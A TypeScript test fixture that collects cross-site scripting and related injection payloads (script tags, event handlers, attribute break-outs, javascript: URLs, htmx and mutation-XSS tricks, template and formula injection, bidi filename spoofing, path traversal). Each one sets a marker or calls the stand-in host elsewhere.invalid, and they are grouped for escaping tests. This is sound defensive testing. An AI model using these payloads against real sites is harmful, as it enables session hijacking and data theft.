/**
 * Texts with which strangers have taken over pages elsewhere, to be put wherever a text of theirs is shown. Whatever runs in one of them
 * leaves `__ran` behind, or asks a server at `elsewhere.invalid`.
 */

/** By what each tries. All on one line: ids, subjects and names hold no line break. */
const TRICKS: Record<string, string> = {
  "a script": "<script>__ran=1</script>",
  "a script in capitals, never closed": "<SCRIPT SRC=//elsewhere.invalid/a.js>",
  "a handler of an image": "<img src=x onerror=__ran=1>",
  "a handler without spaces": "<svg/onload=__ran=1>",
  "a handler of what is opened": "<details open ontoggle=__ran=1>",
  "a handler that focus sets off": "<input autofocus onfocus=__ran=1>",
  "a handler of an animation": '<b style="animation:x" onanimationstart=__ran=1>',
  "the end of an attribute": '" autofocus onfocus="__ran=1',
  "the end of one in single quotes": "' onmouseover='__ran=1",
  "the end of one without quotes": "x onmouseover=__ran=1 ",
  "the end of one in backticks": "`onmouseover=__ran=1`",
  "the end of a tag": '"><script>__ran=1</script>',
  "the end of a script": "</script><script>__ran=1</script>",
  "the end of the title": "</title><script>__ran=1</script>",
  "the end of a textarea": "</textarea><script>__ran=1</script>",
  "the end of a style": "</style><script>__ran=1</script>",
  "the end of a frame": "</iframe><img src=x onerror=__ran=1>",
  "the end of a comment": "--><script>__ran=1</script><!--",
  "the end of CDATA": "]]><script>__ran=1</script>",
  "an address that runs": "javascript:__ran=1",
  "one with a tab in it": "<a href='java&#9;script:__ran=1'>x</a>",
  "one of a form": "<form action=javascript:__ran=1><button>x",
  "a document in an address": "data:text/html,<script>top.__ran=1</script>",
  "a document in an attribute": '<iframe srcdoc="<script>top.__ran=1</script>">',
  "a place elsewhere": '<meta http-equiv=refresh content="0;url=//elsewhere.invalid">',
  "another base": "<base href=//elsewhere.invalid/>",
  "a picture elsewhere": "<img src=//elsewhere.invalid/a.png>",
  "a style that tells": "<style>*{background:url(//elsewhere.invalid/s)}</style>",
  "a style elsewhere": "<link rel=stylesheet href=//elsewhere.invalid/a.css>",
  "htmx that fetches": '<p hx-get="//elsewhere.invalid/h" hx-trigger=load>',
  "htmx that runs": '<p hx-on:load="__ran=1" hx-on::before-request="__ran=1">',
  "htmx by its other names": "<p data-hx-get=/dashboard data-hx-trigger=load hx-vals='js:{a:__ran=1}'>",
  "markup that changes when it is read twice": "<noscript><p title='</noscript><img src=x onerror=__ran=1>'>",
  "mathematics that changes likewise": "<math><mtext><mglyph><style><img src=x onerror=__ran=1>",
  "a template": `{{constructor.constructor('__ran=1')()}} $${"{__ran=1}"} #{__ran=1} <%= __ran=1 %>`,
  "what is escaped already": "&lt;script&gt;__ran=1&lt;/script&gt; &amp;amp; &#60;b&#62;",
  "the end of a JSON text": '\\"}],"a":1};__ran=1;//',
  "lines that only scripts break": "a\u2028__ran=1\u2029b",
  "directions turned around": "invoice\u202excod.exe\u2066\u2069\u200e",
  "wide brackets": "\uff1cscript\uff1e__ran=1\uff1c/script\uff1e",
  "a formula": '=HYPERLINK("//elsewhere.invalid","x")',
  "a path": "../../dashboard/logout?x=1#y%2F%00%",
};

const LONGEST = 200;

/** The tricks, as many together as an id may hold: each of them works among others, too, and there are fewer pages to open. */
export const GROUPS: readonly string[] = grouped(Object.values(TRICKS));

function grouped(tricks: readonly string[]): string[] {
  const groups: string[] = [];
  let group = "";
  for (const trick of tricks) {
    if (group.length + trick.length >= LONGEST) groups.push(group);
    group = group === groups.at(-1) ? trick : `${group} ${trick}`.trim();
  }
  return [...groups, group];
}
